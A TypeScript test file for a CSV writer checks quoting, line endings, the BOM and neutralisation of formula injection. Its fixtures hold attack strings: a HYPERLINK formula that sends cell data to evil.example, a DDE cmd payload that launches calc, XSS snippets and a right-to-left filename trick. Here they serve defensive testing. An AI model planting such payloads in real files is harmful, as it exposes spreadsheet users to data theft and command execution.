/// <reference types="node" />
// The CSV writer: RFC 4180 quoting, CRLF records, optional BOM, and formula injection
// neutralised in every text cell (OWASP "CSV Injection").
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvCell, looksLikeFormula, neutralizeFormula, toCsv, type CsvValue } from '../../src/core/csv';
import { readCsv as parseCsv } from '../fixtures/csv-read';

describe('neutralizeFormula', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    it(`prefixes a cell starting with ${JSON.stringify(start)}`, () => {
      const text = `${start}HYPERLINK("http://evil.example/?"&A1,"Click")`;
      assert.equal(neutralizeFormula(text), `'${text}`);
      assert.equal(looksLikeFormula(text), true);
    });
  }

  it('prefixes full-width look-alikes and formulas behind leading blanks', () => {
    for (const text of ['＝1+1', '＋1', '－1', '＠SUM(A1)', '  =1+1', '\u00a0@A1', '\u3000-2']) {
      assert.equal(neutralizeFormula(text), `'${text}`, JSON.stringify(text));
    }
  });

  it('leaves ordinary text alone, including formula characters further in', () => {
    for (const text of ['', 'Nguyễn Thị Minh Khai', 'HN-QL1A-01', 'a=b', '29A-123.45', "'quoted", '1+1']) {
      assert.equal(neutralizeFormula(text), text, JSON.stringify(text));
      assert.equal(looksLikeFormula(text), false);
    }
  });
});

describe('csvCell', () => {
  it('quotes separators, quotes and line breaks (RFC 4180) and doubles inner quotes', () => {
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('line1\nline2'), '"line1\nline2"');
    assert.equal(csvCell('line1\r\nline2'), '"line1\r\nline2"');
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell('a;b'), 'a;b');
    assert.equal(csvCell('a;b', ';'), '"a;b"');
    assert.equal(csvCell('a\tb', '\t'), '"a\tb"');
  });

  it('neutralises before quoting, so the apostrophe sits inside the quotes', () => {
    assert.equal(csvCell('=1,2'), `"'=1,2"`);
    assert.equal(csvCell('\rX'), `"'\rX"`);
    assert.equal(csvCell('\tX'), `'\tX`);
    assert.equal(csvCell('\tX', '\t'), `"'\tX"`);
  });

  it('writes numbers and booleans as they are and empty cells for null, undefined and non-finite numbers', () => {
    assert.equal(csvCell(-42), '-42');
    assert.equal(csvCell(3.5), '3.5');
    assert.equal(csvCell(true), 'true');
    assert.equal(csvCell(false), 'false');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(undefined), '');
    assert.equal(csvCell(Number.NaN), '');
    assert.equal(csvCell(Number.POSITIVE_INFINITY), '');
    // The same digits as text are a string cell and are neutralised.
    assert.equal(csvCell('-42'), "'-42");
  });
});

describe('toCsv', () => {
  it('ends every record with CRLF and adds a BOM only when asked', () => {
    const rows = [['a', 'b'], ['1', '2']];
    assert.equal(toCsv(rows), 'a,b\r\n1,2\r\n');
    const withBom = toCsv(rows, { bom: true });
    assert.equal(withBom, '\ufeffa,b\r\n1,2\r\n');
    assert.deepEqual([...new TextEncoder().encode(withBom).slice(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.equal(toCsv([]), '');
    assert.equal(toCsv([], { bom: true }), '\ufeff');
  });

  it('round-trips hostile text through a strict reader: values intact except the neutralising apostrophe', () => {
    const hostile: CsvValue[][] = [
      ['name', 'note', 'n'],
      ['<img src=x onerror=alert(1)>', 'javascript:alert(1)', 1],
      ['=cmd|\' /C calc\'!A0', '+1+1', -1],
      ['-2+3', '@SUM(A1:A9)', 0],
      ['Nguyễn "Tí", Hà Nội', 'a\r\nb\nc\rd', 2.5],
      ['\u202egnp.exe', 'x'.repeat(10_000), null],
      ['\tTAB', '\rCR', true],
    ];
    for (const delimiter of [',', ';', '\t'] as const) {
      const parsed = parseCsv(toCsv(hostile, { delimiter }), delimiter);
      const expected = hostile.map((row) =>
        row.map((v) => (typeof v === 'string' ? (looksLikeFormula(v) ? `'${v}` : v) : v === null ? '' : String(v))),
      );
      assert.deepEqual(parsed, expected, `delimiter ${JSON.stringify(delimiter)}`);
      // No cell of the parsed file starts with a formula character any more.
      for (const row of parsed) for (const cell of row.slice(0, 2)) assert.equal(looksLikeFormula(cell), false, cell);
    }
  });
});
